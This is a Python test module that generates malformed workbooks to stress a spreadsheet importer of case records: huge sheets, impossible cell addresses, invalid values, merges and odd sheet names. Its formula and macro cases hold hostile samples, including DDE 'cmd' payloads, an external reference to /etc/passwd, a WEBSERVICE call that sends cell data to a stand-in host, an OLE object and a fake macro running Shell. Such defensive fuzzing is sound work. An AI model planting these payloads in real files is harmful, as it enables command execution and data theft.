"""Workbooks whose sheets are the trap: absurd sizes and places, merges, names, numbers that are none, formulas."""

from __future__ import annotations

import random
from functools import partial
from pathlib import Path

from tests.hostile.corpus import EXPORT, Ends, add, check, hostile
from tests.hostile.make import (
    SHEET,
    STRINGS,
    STYLES,
    case_sheet,
    letters,
    package_parts,
    row_xml,
    rows_xml,
    sheet_xml,
    write,
)
from tests.pingcha.exports import good

_ROWS = 1_000_000


@hostile(ends=Ends.ANSWERED)
def a_million_blank_rows(folder: Path) -> None:
    write(folder, case_sheet("".join(f'<row r="{n}" ht="15"/>' for n in range(3, _ROWS))))


@hostile(ends=Ends.EITHER)
def blank_cells_with_a_look(folder: Path) -> None:
    write(folder, case_sheet("".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(3, 200_000))))


@hostile(ends=Ends.EITHER)
def rows_of_blank_texts(folder: Path) -> None:
    write(
        folder,
        case_sheet(
            "".join(f'<row r="{n}"><c r="B{n}" t="str"><v> </v></c></row>' for n in range(3, 100_000))
        ),
    )


@hostile(ends=Ends.EITHER)
def rows_without_a_case(folder: Path) -> None:
    write(
        folder,
        case_sheet("".join(f'<row r="{n}"><c r="B{n}"><v>{n}</v></c></row>' for n in range(3, 20_000))),
    )


@hostile()
def cells_without_addresses(folder: Path) -> None:
    """Four million cells in a file of 1 MB, packed just loosely enough not to be called a bomb."""
    chance = random.Random(1)
    pieces = (
        "<row>" + "<c><v>1</v></c>" * 1000 + "</row><!--" + chance.randbytes(40).hex() + "-->"
        for _ in range(4_200)
    )
    write(folder, case_sheet("".join(pieces)))


@hostile("很远")
def two_corners(folder: Path) -> None:
    write(folder, case_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


@hostile("很远")
def corners_of_twenty_million_places(folder: Path) -> None:
    write(folder, case_sheet('<row r="999999"><c r="T999999"><v>1</v></c></row>'))


def _dimension(folder: Path, ref: str) -> None:
    write(folder, case_sheet(before=f'<dimension ref="{ref}"/>'))


for _ref in ("A1:XFD1048576", "XFD1048576:A1", "A1:A1", "", "案件", "A0", "A1:ZZZZZZ99999999999999999999"):
    add(f"dimension_{_ref or 'empty'}", partial(_dimension, ref=_ref), ends=Ends.EITHER)


def _place(folder: Path, row: str, cell: str) -> None:
    write(folder, case_sheet(f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>乙</t></is></c></row>'))


for _name, _at in {
    "row_zero": ("0", "A0"),
    "row_minus": ("-3", "A-3"),
    "row_4e9": ("4294967297", "A4294967297"),
    "row_word": ("三", "A三"),
    "row_of_9000_digits": ("9" * 9000, "A" + "9" * 9000),
    "column_beyond": ("3", "XFE3"),
    "column_of_20_letters": ("3", "A" * 20 + "3"),
    "lower_case": ("3", "a3"),
    "same_cell_again": ("2", "A2"),
    "another_row": ("3", "A9"),
    "rows_out_of_order": ("1", "C1"),
    "nothing": ("", ""),
}.items():
    add(f"address_{_name}", partial(_place, row=_at[0], cell=_at[1]), ends=Ends.EITHER, cases=None)


def _value(folder: Path, cell: str) -> None:
    write(folder, case_sheet(f'<row r="3">{row_xml(3, ["2025-2"])[len("<row r=.3.>") : -6]}{cell}</row>'))


for _name, _cell in {
    "string_out_of_range": '<c r="B3" t="s"><v>99999999</v></c>',
    "string_minus_one": '<c r="B3" t="s"><v>-1</v></c>',
    "string_no_number": '<c r="B3" t="s"><v>甲</v></c>',
    "style_out_of_range": '<c r="B3" s="4294967295"><v>1</v></c>',
    "number_1e400": '<c r="B3"><v>1e400</v></c>',
    "number_of_100000_digits": f'<c r="B3"><v>{"9" * 100_000}</v></c>',
    "number_nan": '<c r="B3"><v>NaN</v></c>',
    "number_infinity": '<c r="B3"><v>-Infinity</v></c>',
    "boolean_7": '<c r="B3" t="b"><v>7</v></c>',
    "date_of_another_age": '<c r="B3" t="d"><v>99999-99-99T99:99:99</v></c>',
    "unknown_type": '<c r="B3" t="zzz"><v>1</v></c>',
    "error_value": '<c r="B3" t="e"><v>#REF!</v></c>',
    "error_with_markup": '<c r="B3" t="e"><v>&lt;b&gt;=1+1</v></c>',
}.items():
    add(f"cell_{_name}", partial(_value, cell=_cell), ends=Ends.EITHER, cases=None)


def _serial(folder: Path, serial: str) -> None:
    look = '<numFmts count="1"><numFmt numFmtId="200" formatCode="yyyy-mm-dd"/></numFmts><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs>'
    rows = rows_xml([["案号", "决定日期"], ["2025-1", f'<c r="B2" s="1"><v>{serial}</v></c>']])
    parts = package_parts({"案件": sheet_xml(rows)})
    write(folder, {**parts, STYLES: parts[STYLES].replace("></", f">{look}</")})


for _serial_text in ("-1", "0", "60", "2958466", "99999999999", "1e308", "-1e308", "1e-320"):
    add(f"date_serial_{_serial_text}", partial(_serial, serial=_serial_text), ends=Ends.EITHER)


@hostile(ends=Ends.EITHER)
def sixteen_thousand_headings(folder: Path) -> None:
    heads = ["案号", *(f"未知列{n}" for n in range(16_000))]
    write(folder, package_parts({"案件": sheet_xml(rows_xml([heads, ["2025-1"]]))}))


@hostile("案号")
def the_same_heading_a_thousand_times(folder: Path) -> None:
    write(folder, package_parts({"案件": sheet_xml(rows_xml([["案号"] * 1000, ["2025-1"] * 1000]))}))


@hostile(ends=Ends.EITHER)
def ten_thousand_sheets(folder: Path) -> None:
    sheets = {f"表{n}": sheet_xml("") for n in range(10_000)}
    write(folder, package_parts({**sheets, "案件": sheet_xml(rows_xml([["案号"], ["2025-1"]]))}))


@hostile()
def nothing_but_strange_sheets(folder: Path) -> None:
    names = ("=1+1", "\u202e件案", "甲" * 3000, "案\u200b件", "[案件]", "'案件'", "Sheet1\t", "&lt;b&gt;")
    write(folder, package_parts({name: sheet_xml("") for name in names}))


def _merged(folder: Path, refs: list[str]) -> None:
    listed = "".join(f'<mergeCell ref="{ref}"/>' for ref in refs)
    write(
        folder,
        case_sheet(
            "".join(row_xml(n, [None, "某案"]) for n in range(3, 300)),
            after=f"<mergeCells>{listed}</mergeCells>",
        ),
    )


for _name, _refs in {
    "whole_sheet": ["A1:XFD1048576"],
    "whole_sheet_fifty_thousand_times": ["A3:XFD1048576"] * 50_000,
    "fifty_thousand_rows": [f"A{n}:B{n}" for n in range(3, 50_003)],
    "reversed": ["B9:A3"],
    "garbage": ["案件", "", "A1:", ":", "A-1:B0", "A99999999999:B99999999999"],
    "beyond_the_sheet": ["ZZZZ1:ZZZZZ99999999"],
}.items():
    add(f"merged_{_name}", partial(_merged, refs=_refs), ends=Ends.EITHER, cases=None)


def _formula(folder: Path, formula: str, result: str) -> None:
    cell = f'<c r="B3"><f>{formula}</f>{f"<v>{result}</v>" if result else ""}</c>'
    rows = (
        row_xml(3, ["2025-1"])
        .replace("</row>", f"{cell}</row>")
        .replace("A3", "A2")
        .replace("B3", "B2")
        .replace('r="3"', 'r="2"')
    )
    write(folder, package_parts({"案件": sheet_xml(row_xml(1, ["案号", "案件名称"]) + rows)}))


for _name, (_text, _result) in {
    "dde": ("cmd|' /C calc'!A0", ""),
    "dde_with_result": ("cmd|' /C calc'!A0", "5"),
    "external_book": ("'file:///etc/[passwd]x'!A1", "1"),
    "web_service": ("WEBSERVICE(&quot;http://example.invalid/&quot;&amp;A1)", ""),
    "hyperlink": ("HYPERLINK(&quot;http://example.invalid&quot;,&quot;点我&quot;)", "点我"),
    "itself": ("B2", "0"),
    "ten_thousand_brackets": ("(" * 10_000 + "1" + ")" * 10_000, "1"),
}.items():
    _ends = Ends.ANSWERED if _result else Ends.REFUSED
    add(f"formula_{_name}", partial(_formula, formula=_text, result=_result), ends=_ends)


@hostile(ends=Ends.ANSWERED)
def links_and_pictures_in_the_sheet(folder: Path) -> None:
    after = '<hyperlinks><hyperlink ref="A2" r:id="rId99"/></hyperlinks><drawing r:id="rId98"/><oleObjects><oleObject progId="cmd" r:id="rId1"/></oleObjects>'
    write(folder, case_sheet(after=after))


@hostile(ends=Ends.ANSWERED)
def macros_inside(folder: Path) -> None:
    write(
        folder,
        {**case_sheet(), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b'Shell "calc"' * 100},
        "导出.xlsm",
    )
    (folder / "导出.xlsm").rename(folder / EXPORT)


@hostile(ends=Ends.ANSWERED)
def cell_of_one_megabyte(folder: Path) -> None:
    write(
        folder,
        package_parts({"案件": sheet_xml(rows_xml([["案号", "案件名称"], ["2025-1", "甲" * 1_000_000]]))}),
    )


@hostile(ends=Ends.EITHER)
def cell_of_ten_megabytes(folder: Path) -> None:
    chance = random.Random(2)
    text = chance.randbytes(5_000_000).hex()
    write(folder, package_parts({"案件": sheet_xml(rows_xml([["案号", "案件名称"], ["2025-1", text]]))}))


@hostile("案号")
def case_number_of_one_megabyte(folder: Path) -> None:
    write(
        folder,
        package_parts({"案件": sheet_xml(rows_xml([["案号", "案件名称"], ["2" * 1_000_000, "某案"]]))}),
    )


@hostile(ends=Ends.EITHER)
def many_shared_strings(folder: Path) -> None:
    parts = case_sheet()
    items = "".join(f"<si><t>{n}</t></si>" for n in range(300_000))
    write(folder, {**parts, STRINGS: parts[STRINGS].replace("></", f">{items}</")})


@hostile(ends=Ends.EITHER)
def shared_string_in_many_runs(folder: Path) -> None:
    parts = case_sheet()
    runs = "".join(f"<r><t>{n % 10}</t></r>" for n in range(300_000))
    text = parts[SHEET].replace('t="inlineStr"><is><t xml:space="preserve">某案</t></is>', 't="s"><v>0</v>')
    write(folder, {**parts, SHEET: text, STRINGS: parts[STRINGS].replace("></", f"><si>{runs}</si></")})


@hostile("表", ends=Ends.EITHER)
def heading_row_far_below(folder: Path) -> None:
    rows = (
        "".join(row_xml(n, ["说明"]) for n in range(1, 5000))
        + row_xml(5000, ["案号"])
        + row_xml(5001, ["2025-1"])
    )
    write(folder, package_parts({"案件": sheet_xml(rows)}))


@hostile(ends=Ends.EITHER)
def every_cell_an_error(folder: Path) -> None:
    rows = "".join(
        f'<row r="{n}">'
        + "".join(f'<c r="{letters(i)}{n}" t="e"><v>#N/A</v></c>' for i in range(20))
        + "</row>"
        for n in range(3, 2_000)
    )
    write(folder, case_sheet(rows))


@hostile(ends=Ends.ANSWERED, call=check(EXPORT, EXPORT, "./导出.xlsx"))
def the_same_file_three_times(folder: Path) -> None:
    write(folder, package_parts())


@hostile("两次")
def two_hundred_cases_of_the_same_number(folder: Path) -> None:
    sheets = good()
    sheets["案件"] += [["2025-1", "某案", "行政处罚"]] * 200
    write(folder, package_parts({name: sheet_xml(rows_xml(rows)) for name, rows in sheets.items()}))
